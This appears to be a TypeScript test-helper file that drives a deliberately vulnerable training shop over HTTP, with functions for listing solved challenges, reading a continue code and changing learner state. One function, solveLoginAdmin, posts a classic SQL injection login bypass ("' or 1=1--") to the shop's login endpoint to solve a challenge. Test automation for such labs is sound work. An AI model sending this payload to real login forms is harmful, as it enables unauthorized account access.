import { type LearnerChange, type LearnerState, learnerPath } from '../../../shared/api/learner.ts';

/** What tests do to the shop from outside the app, over HTTP. */

/** Solves Login Admin by SQL injection. */
export async function solveLoginAdmin(shop: string): Promise<void> {
  const response = await fetch(`${shop}/rest/user/login`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ email: "' or 1=1--", password: 'x' }),
  });
  if (!response.ok) {
    throw new Error(`The injection did not work: ${response.status}`);
  }
}

/** Returns the keys of all solved challenges. */
export async function solvedChallenges(shop: string): Promise<readonly string[]> {
  const response = await fetch(`${shop}/api/Challenges/`);
  const { data } = (await response.json()) as { data: readonly { key: string; solved: boolean }[] };
  return data.filter(({ solved }) => solved).map(({ key }) => key);
}

export async function continueCode(shop: string): Promise<string | undefined> {
  const response = await fetch(`${shop}/rest/continue-code`);
  const { continueCode: code } = (await response.json()) as { continueCode?: string };
  return code;
}

/** Returns what the shop keeps of its learner besides solves. */
export async function learner(shop: string): Promise<LearnerState> {
  const response = await fetch(`${shop}/${learnerPath}`);
  const { data } = (await response.json()) as { data: LearnerState };
  return data;
}

export async function changeLearner(shop: string, change: LearnerChange): Promise<void> {
  const response = await fetch(`${shop}/${learnerPath}`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify(change),
  });
  if (!response.ok) {
    throw new Error(`The change was refused: ${response.status}`);
  }
}
